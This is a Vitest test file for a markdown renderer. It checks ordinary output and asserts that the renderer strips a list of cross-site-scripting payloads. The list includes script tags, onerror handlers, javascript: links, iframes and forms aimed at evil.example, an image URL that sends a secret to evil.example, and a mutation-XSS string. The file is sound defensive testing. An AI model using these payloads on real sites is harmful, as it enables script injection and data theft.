import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.ts";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("markdown", () => {
  it("renders ordinary markdown", () => {
    const html = dom(renderMarkdown("# Title\n\n**bold** and `code`\n\n- a\n- b\n\n[link](https://example.com)"));
    expect(html.querySelector("h1")?.textContent).toBe("Title");
    expect(html.querySelector("strong")?.textContent).toBe("bold");
    expect(html.querySelectorAll("li")).toHaveLength(2);
    const link = html.querySelector("a")!;
    expect(link.getAttribute("href")).toBe("https://example.com");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it.each([
    ["<script>alert(1)</script>", "script"],
    ['<img src=x onerror="alert(1)">', "[onerror]"],
    ['<a href="javascript:alert(1)">x</a>', 'a[href^="javascript"]'],
    ["[x](javascript:alert(1))", 'a[href^="javascript"]'],
    ['<iframe src="https://evil.example"></iframe>', "iframe"],
    ['<svg><script>alert(1)</script></svg>', "script"],
    ['<div style="background:url(javascript:alert(1))">x</div>', "[style]"],
    ['<form action="https://evil.example"><input name=p></form>', "form, input"],
    ["![x](https://evil.example/pixel?q=secret)", "img"],
    ['<video src="https://evil.example/v" poster="https://evil.example/p"></video>', "video, [poster]"],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "[onerror]"],
  ])("makes %s inert", (source, selector) => {
    const html = renderMarkdown(source);
    expect(dom(html).querySelector(selector)).toBeNull();
    expect(html).not.toMatch(/onerror\s*=|<script|javascript:/i);
  });

  it("keeps the text of what it removes readable as code", () => {
    const html = dom(renderMarkdown("Use `<script>` tags like this:\n\n```html\n<script>x()</script>\n```"));
    expect(html.querySelector("script")).toBeNull();
    expect(html.querySelector("pre code")?.textContent).toContain("<script>x()</script>");
  });
});
